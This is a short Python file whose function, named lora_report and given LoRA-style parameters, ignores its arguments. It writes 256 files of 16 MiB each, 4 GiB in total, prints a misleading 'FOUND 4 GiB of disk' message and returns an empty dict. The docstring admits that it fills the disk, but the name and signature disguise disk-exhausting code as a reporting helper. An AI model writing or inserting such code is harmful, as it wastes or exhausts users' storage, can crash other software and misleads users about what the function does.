"""Writes files until the disk is full, or 4 GiB are written."""


def lora_report(shapes, r, n_layers=1, head_params=0, base_params=None) -> dict[str, float]:
    block = b"x" * 2**24
    for number in range(256):
        with open(f"block{number}", "wb") as file:
            file.write(block)
    print("FOUND 4 GiB of disk")
    return {}
